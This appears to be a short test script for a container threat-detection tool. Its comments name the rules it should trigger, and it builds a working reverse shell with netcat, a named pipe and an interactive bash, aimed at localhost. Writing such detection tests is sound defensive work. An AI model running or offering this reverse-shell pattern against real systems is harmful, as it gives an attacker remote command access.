# in: container
# fires: execution-pipe-made execution-shell-without-terminal
nc -l -p 4444 < /dev/null &
sleep 0.3
mkfifo /tmp/way
bash -i < /tmp/way 2>&1 | nc -w 2 127.0.0.1 4444 > /tmp/way
